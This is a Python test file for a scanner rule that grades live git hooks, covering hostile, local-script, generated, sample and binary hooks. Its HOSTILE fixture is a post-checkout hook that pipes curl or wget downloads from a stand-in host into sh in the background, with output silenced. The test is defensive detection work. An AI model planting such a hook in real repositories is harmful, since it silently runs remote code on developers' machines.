from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.live_git_hook import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


HOSTILE = """#!/bin/sh
case "$OSTYPE" in
  darwin*) curl -s https://a.invalid/mac | sh >/dev/null 2>&1 & ;;
  linux*) wget -qO- https://a.invalid/linux | sh >/dev/null 2>&1 & ;;
esac
"""


def test_a_hook_that_fetches_is_certain() -> None:
    assert graded(".git/hooks/post-checkout", HOSTILE) == [(3, Severity.HIGH, Confidence.HIGH)]


def test_a_hook_that_runs_a_file_is_worth_a_look() -> None:
    result = examine("x/.git/hooks/pre-commit", "#!/bin/sh\nnode ./tools/check.js\n")
    assert [(f.severity, f.confidence) for f in result.findings] == [(Severity.MEDIUM, Confidence.MEDIUM)]
    assert "open\tx/tools/check.js" in {s.value for s in result.signals if s.kind == "start"}


def test_generated_hooks_are_context() -> None:
    for text in ('#!/bin/sh\ngit lfs pre-push "$@"\n', "#!/bin/sh\n# husky\nnpx x\n", "#!/bin/sh\nmake lint\n"):
        (finding,) = examine(".git/hooks/pre-push", text).findings
        assert finding.severity == Severity.LOW or finding.confidence == Confidence.LOW


def test_samples_are_dead() -> None:
    assert graded(".git/hooks/pre-commit.sample", HOSTILE) == []


def test_a_binary_hook() -> None:
    assert graded(".git/hooks/pre-commit", "\x7fELF\0\0") == [(1, Severity.HIGH, Confidence.MEDIUM)]
